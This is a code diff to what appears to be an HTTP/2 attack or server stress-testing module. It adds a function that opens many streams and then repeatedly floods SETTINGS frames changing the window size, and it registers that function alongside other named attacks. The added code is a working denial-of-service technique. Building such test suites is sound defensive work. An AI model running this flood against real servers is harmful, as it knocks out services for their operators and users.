@@ -151,6 +151,20 @@ def empty_fields(field: Field) -> AttackSockets:
     return sockets
 
 
+def changing_windows(field: Field) -> AttackSockets:
+    """The windows of many streams, changed again and again, whose changes are confirmed."""
+    sockets = _callers(field)
+    block = headers_of("Telemetry")
+    for first in range(0, 4000, 100):
+        streams = range(2 * first + 1, 2 * first + 201, 2)
+        sockets.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in streams))
+    flood = b"".join(frame(SETTINGS, payload=struct.pack(">HI", 4, size)) for size in range(1000, 1500))
+    until = time.monotonic() + field.seconds
+    while time.monotonic() < until:
+        sockets.send(flood, within_s=0.2)
+    return sockets
+
+
 def one_byte_windows(field: Field) -> AttackSockets:
     """Answers that may be sent one byte at a time."""
     sockets = _callers(field, ONE_BYTE)
@@ -218,6 +232,7 @@ HTTP2: dict[str, Attack] = {
         closed_windows,
         lying_messages,
         empty_fields,
+        changing_windows,
         one_byte_windows,
         empty_frames,
         slow_messages,
